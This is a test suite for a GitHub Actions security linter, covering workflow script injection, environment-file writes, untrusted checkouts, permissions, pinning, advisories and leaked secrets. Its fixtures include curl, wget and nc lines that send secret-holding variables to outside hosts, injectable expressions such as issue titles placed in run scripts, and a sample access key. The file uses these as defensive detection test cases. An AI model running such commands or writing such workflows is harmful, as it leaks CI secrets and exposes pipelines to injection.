"""Checks of GitHub workflows: what fails, what passes, what cannot be told, and exactly where."""

from __future__ import annotations

from importlib import import_module
from typing import Any

import pytest

from linter.checks import CHECKS, Verdict
from linter.checks.pipelines.pins import ADVISORIES, version
from linter.checks.pipelines.taint import ATTACKER, OPEN, SAFE, of_context
from linter.model import Estate
from tests.parsers.test_pipelines import read, written


def judge(
    name: str, files: dict[str, str] | str, paths: tuple[str, ...] = (), settings: Any = None, **given: Any
) -> list[tuple[str, str]]:
    """(outcome, text at the place) of every judgement but passes; ("pass", "") if all of at least one passed."""
    estate = read(files)
    estate.paths = frozenset((*estate.paths, *paths))
    estate.settings = settings or {}
    verdicts = verdicts_of(name, estate, **given)
    shown = [(each.outcome, written(estate, each.span)) for each in verdicts if each.outcome != "pass"]
    return shown or ([("pass", "")] if verdicts else [])


def verdicts_of(name: str, estate: Estate, **given: Any) -> list[Verdict]:
    module, _, function = CHECKS[name].partition(":")
    return list(getattr(import_module(module), function)(estate, **given))


def job(steps: str, on: str = "push", head: str = "") -> str:
    lines = "\n".join(f"      {line}" for line in steps.strip("\n").split("\n"))
    return f"name: w\non: {on}\njobs:\n  build:\n    runs-on: ubuntu-latest\n{head}    steps:\n{lines}\n"


def run(script: str, on: str = "push", extra: str = "") -> str:
    lines = "\n".join(f"    {line}" for line in script.split("\n"))
    return job(f"- run: |\n{lines}\n{extra}", on)


SCRIPTS = "no_untrusted_text_in_scripts"
VALUES = "no_open_expressions_in_scripts"
TITLE = "${{ github.event.issue.title }}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (run(f"echo {TITLE}"), [("fail", TITLE)]),
        (run(f"echo a\necho {TITLE} {TITLE}"), [("fail", TITLE), ("fail", TITLE)]),
        (run("echo ${{ github.event.issue.number }} ${{ github.sha }}"), [("pass", "")]),
        (run("echo ${{ github.event.issue.title != 'x' }}"), [("pass", "")]),
        (run("echo ${{ env.T }}", extra=f"  env:\n    T: {TITLE}"), [("fail", "${{ env.T }}")]),
        (run("echo ${{ env.T }}", extra="  env:\n    T: fixed"), [("pass", "")]),
        (run('echo "$T"', extra=f"  env:\n    T: {TITLE}"), [("pass", "")]),
        (run("echo ${{ toJSON(github.event) }}"), [("fail", "${{ toJSON(github.event) }}")]),
        (run("echo ${{ format('{0}', github.head_ref) }}"), [("fail", "${{ format('{0}', github.head_ref) }}")]),
        (run("echo ${{ github.event.commits[0].message }}"), [("fail", "${{ github.event.commits[0].message }}")]),
        (job(f"- uses: actions/github-script@v7\n  with: {{script: 'x({TITLE})'}}"), [("fail", TITLE)]),
        (job(f"- uses: actions/other@v7\n  with: {{script: 'x({TITLE})'}}"), []),
    ],
)
def test_untrusted_text_in_scripts(text: str, expected: list[tuple[str, str]]) -> None:
    assert judge(SCRIPTS, text) == expected


INPUTS = "{workflow_dispatch: {inputs: {t: {type: string}, b: {type: boolean}, c: {type: choice, options: [x]}}}}"


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("echo ${{ inputs.t }}", [("fail", "${{ inputs.t }}")]),
        ("echo ${{ github.event.inputs.T }}", [("fail", "${{ github.event.inputs.T }}")]),
        ("echo ${{ inputs.b }} ${{ inputs.c }}", [("pass", "")]),
        ("echo ${{ inputs.b && 'x' || inputs.t }}", [("fail", "${{ inputs.b && 'x' || inputs.t }}")]),
        ("echo ${{ steps.a.outputs.b }}", [("fail", "${{ steps.a.outputs.b }}")]),
        ("echo ${{ steps.a.outcome }} ${{ needs.a.result }} ${{ job.status }}", [("pass", "")]),
        ("echo ${{ secrets.X }} ${{ vars.Y }} ${{ runner.os }}", [("pass", "")]),
        ("echo ${{ hashFiles('x') }} ${{ contains(inputs.t, 'x') }}", [("pass", "")]),
        (f"echo {TITLE}", [("pass", "")]),  # the other rule's
    ],
)
def test_open_expressions_in_scripts(script: str, expected: list[tuple[str, str]]) -> None:
    assert judge(VALUES, run(script, on=INPUTS)) == expected


@pytest.mark.parametrize(
    ("context", "kind"),
    [
        ("github.head_ref", ATTACKER), ("github.event.comment.body", ATTACKER), ("github.event", ATTACKER),
        ("github.event.pull_request.head.ref", ATTACKER), ("github.event.commits.*.author.email", ATTACKER),
        ("github.event.pull_request.head.sha", SAFE), ("github.event.pull_request.head.repo.fork", SAFE),
        ("github.repository", SAFE), ("github.event.issue.html_url", SAFE), ("github.ref_name", OPEN),
        ("steps.x.outputs.y", OPEN), ("x." * 1000, OPEN), ("nothing.known", OPEN), ("github.job", SAFE),
    ],
)  # fmt: skip
def test_what_contexts_hold(context: str, kind: str) -> None:
    assert of_context(context) == kind


ENV = "no_unsafe_environment_write"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (run('echo "A=$B" >> "$GITHUB_ENV"', "pull_request_target"), [("fail", 'echo "A=$B" >> "$GITHUB_ENV"')]),
        (run('echo "A=b" >> "$GITHUB_ENV"', "pull_request_target"), [("pass", "")]),
        (run('echo "A=$B" >> "$GITHUB_ENV"', "pull_request"), [("pass", "")]),
        (run(f'echo "A={TITLE}" >> $GITHUB_ENV', "issues"), [("fail", f'echo "A={TITLE}" >> $GITHUB_ENV')]),
        (run("cat x >> $GITHUB_PATH", "workflow_run"), [("fail", "cat x >> $GITHUB_PATH")]),
        (run("echo A=`x` | tee -a $GITHUB_ENV", "workflow_run"), [("fail", "echo A=`x` | tee -a $GITHUB_ENV")]),
        (run("cat <<E >> $GITHUB_ENV\nA=1\nE", "workflow_run"), [("pass", "")]),
        (run("echo $GITHUB_ENV", "workflow_run"), [("pass", "")]),
    ],
)
def test_environment_writes(text: str, expected: list[tuple[str, str]]) -> None:
    assert judge(ENV, text) == expected


CHECKOUT = "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n"


@pytest.mark.parametrize(
    ("text", "outcome"),
    [
        (job(CHECKOUT + "- run: make", "pull_request_target"), "fail"),
        (job("- run: make\n" + CHECKOUT, "pull_request_target"), "pass"),
        (job("- uses: actions/checkout@v4\n- run: make", "pull_request_target"), "pass"),
        (job("- run: gh pr checkout 1\n- run: make", "issue_comment"), "fail"),
        (job("- run: git fetch origin ${{ github.head_ref }}\n- run: make", "workflow_run"), "fail"),
    ],
)
def test_untrusted_checkouts(text: str, outcome: str) -> None:
    assert [each[0] for each in judge("no_untrusted_checkout", text)] == [outcome]


def test_unprivileged_builds_are_not_judged_for_checkouts() -> None:
    assert judge("no_untrusted_checkout", job(CHECKOUT + "- run: make", "pull_request")) == []


@pytest.mark.parametrize(
    ("condition", "outcome"),
    [
        ("github.actor == 'dependabot[bot]'", "fail"), ("'renovate[bot]' == github['ACTOR']", "fail"),
        ("${{ github.triggering_actor == 'x[bot]' && always() }}", "fail"), ("github.actor_id == 49699333", "fail"),
        ("github.actor != 'dependabot[bot]'", "pass"), ("github.actor == 'octocat'", "pass"),
        ("github.event.pull_request.user.login == 'dependabot[bot]'", "pass"),
    ],
)  # fmt: skip
def test_bot_conditions(condition: str, outcome: str) -> None:
    text = job(f'- run: x\n  if: "{condition}"', "pull_request_target")
    assert judge("no_bot_conditions", text) == [(outcome, condition if outcome == "fail" else "")]


PERMISSIONS = [
    ("on: push\npermissions: {}\njobs: {a: {steps: []}}", []),
    ("on: push\njobs: {a: {steps: []}}", ["on"]),
    ("name: ci\non: push\njobs: {a: {steps: []}, b: {steps: []}}", ["ci"]),
    ("on: push\njobs: {a: {steps: []}, b: {steps: []}, c: {permissions: {}}}", ["a", "b"]),
    ("on: push\njobs: {a: {uses: ./x.yml}}", ["a"]),
    ("on: push\njobs: {a: {steps: []}, b: {uses: ./x.yml}}", ["on", "b"]),
    ("on: push\njobs: {a: {permissions: {}}, b: {permissions: {contents: write}}}", []),
    ("on: workflow_call\njobs: {a: {steps: []}, b: {uses: ./x.yml}}", ["b"]),
]


@pytest.mark.parametrize(("text", "places"), PERMISSIONS)
def test_missing_permissions(text: str, places: list[str]) -> None:
    assert judge("token_permissions_set", text) == ([("fail", place) for place in places] or [("pass", "")])


@pytest.mark.parametrize(
    ("text", "places"),
    [
        ("on: push\npermissions: {contents: write}\njobs: {a: {}, b: {}}", ["write"]),
        ("on: push\npermissions: {contents: write}\njobs: {a: {}}", []),
        ("on: push\npermissions: read-all\njobs: {a: {permissions: write-all}}", ["write-all"]),
        ("on: push\npermissions: read-all\njobs: {a: {}, b: {permissions: {}}}", ["read-all"]),
        ("on: push\njobs: {a: {permissions: {contents: write, packages: write}}, b: {permissions: {}}}", []),
    ],
)
def test_broad_permissions(text: str, places: list[str]) -> None:
    found = [judge("no_broad_permissions", text, everything=everything) for everything in (True, False)]
    failing = [each for each in (*found[0], *found[1]) if each[0] != "pass"]
    assert sorted(failing) == sorted(("fail", place) for place in places)


@pytest.mark.parametrize(
    ("steps", "outcome"),
    [
        ("- run: pytest", "fail"), ("- uses: google-github-actions/auth@v2", "pass"), ("- run: cosign sign x", "pass"),
        ("- run: npm publish", "pass"), ("- uses: someone/else@v1", "unknown"), ("- run: ./release.sh", "pass"),
    ],
)  # fmt: skip
def test_identity_tokens(steps: str, outcome: str) -> None:
    text = job(steps, head="    permissions: {id-token: write}\n")
    assert judge("identity_token_used", text)[0][0] == outcome


@pytest.mark.parametrize(
    ("image", "outcome"),
    [
        ("node", "fail"), ("node:latest", "fail"), ("node:22", "pass"), ("localhost:5000/node", "fail"),
        ("a/b@sha256:" + "0" * 64, "pass"), ("${{ inputs.image }}", "unknown"), ("node:${{ inputs.v }}", "unknown"),
        ("${{ matrix.image }}", "fail"), ("${{ matrix.version }}", "pass"),
    ],
)  # fmt: skip
def test_images(image: str, outcome: str) -> None:
    matrix = "    strategy: {matrix: {image: ['a:1', a], version: ['a:1', 'a:2']}}\n"
    text = job("- run: x", head=f"    container: '{image}'\n{matrix}")
    assert judge("images_pinned", text) == [(outcome, f"'{image}'" if outcome != "pass" else "")]


@pytest.mark.parametrize(
    ("uses", "outcome"),
    [
        ("tj-actions/changed-files@v45", "fail"), ("tj-actions/changed-files@v46", "pass"),
        ("Tj-Actions/Changed-Files@v46.0.0", "fail"), ("tj-actions/changed-files@main", "unknown"),
        ("actions/download-artifact@v4", "pass"), ("actions/download-artifact@v4.1.2", "fail"),
        ("actions/download-artifact@v4.1", "pass"), ("actions/download-artifact@v3", "pass"),
        ("actions/download-artifact@" + "0" * 40 + " # v4.1.2", "fail"),
        ("actions/download-artifact@" + "0" * 40, "unknown"), ("reviewdog/action-setup@v1", "pass"),
        ("actions/checkout@v1", "pass"),
    ],
)  # fmt: skip
def test_advisories(uses: str, outcome: str) -> None:
    assert judge("known_vulnerable", job(f"- uses: {uses}"))[0][0] == outcome


def test_every_advisory_names_an_action_in_lower_case_and_a_range() -> None:
    for advisory in ADVISORIES:
        assert advisory.action == advisory.action.lower() and advisory.action.count("/") == 1
        assert advisory.id.startswith(("CVE-", "GHSA-"))
        assert advisory.since < advisory.fixed or advisory.commits


@pytest.mark.parametrize(
    ("text", "expected"), [("v4.1.2", (4, 1, 2)), ("4", (4,)), ("v1.2.3-rc1", None), ("main", None), ("v1.2.3.4", None)]
)
def test_versions(text: str, expected: tuple[int, ...] | None) -> None:
    assert version(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (job("- run: x\n  env: {API_KEY: AKIAZZ7QK3MXW5TNRB2C}"), [("fail", "AKIAZZ7QK3MXW5TNRB2C")]),
        (job("- run: x\n  env: {API_KEY: '${{ secrets.K }}'}"), [("pass", "")]),
        (job("- run: x", head="    container: {image: 'a:1', credentials: {password: hush}}\n"), [("fail", "hush")]),
    ],
)
def test_literal_secrets(text: str, expected: list[tuple[str, str]]) -> None:
    assert judge("no_literal_secrets", text) == expected


@pytest.mark.parametrize(
    ("script", "outcome"),
    [
        ("curl -H \"A: $T\" http://a.example.com", "fail"), ("curl -H \"A: $T\" https://a.example.com", "pass"),
        ("curl -d ${{ secrets.T }} https://203.0.113.9/x", "fail"), ("nc 203.0.113.9 80 <<< $T", "fail"),
        ("nc h 80 $T", "fail"), ("curl -d $T https://x.oast.fun", "fail"), ("curl -d $T http://localhost:80", "pass"),
        ("wget -q --post-data=\"${T}\" http://a.example.com", "fail"),
    ],
)  # fmt: skip
def test_secrets_on_the_network(script: str, outcome: str) -> None:
    found = judge("secrets_stay_home", run(script, extra="  env: {T: '${{ secrets.T }}'}"))
    assert [each[0] for each in found] == ([outcome] if "<<<" not in script else [])


def test_a_list_of_hosts_closes_all_others() -> None:
    text = run("curl -d $T https://a.example.com", extra="  env: {T: '${{ secrets.T }}'}")
    assert judge("secrets_stay_home", text, settings={"pipelines": {"secret-hosts": ["example.com"]}}) == [("pass", "")]
    assert judge("secrets_stay_home", text, settings={"pipelines": {"secret-hosts": ["b.com"]}})[0][0] == "fail"


MALFORMED = [
    "on: push\njobs:\n  a:\n    steps:\n      - {uses: '', with: x, env: [y], if: [z], run: ''}\n      - {uses: a}\n",
    "on: [pull_request_target]\njobs: {a: {environment: '${{ x }}', needs: [1], steps: [{run: 'kubectl apply -f'}]}}",
    "on: release\njobs: {a: {uses: './x', secrets: 3, permissions: [], container: {image: 3}, steps: [{run: $( }]}}",
]


@pytest.mark.parametrize(
    "name", [name for name, where in CHECKS.items() if where.startswith("linter.checks.pipelines.")]
)
@pytest.mark.parametrize("text", MALFORMED)
def test_no_check_crashes_on_malformed_workflows(name: str, text: str) -> None:
    estate = read(text)
    for verdict in verdicts_of(name, estate):
        assert verdict.outcome in ("pass", "fail", "unknown")
        assert (verdict.outcome == "unknown") == bool(verdict.unknowns)
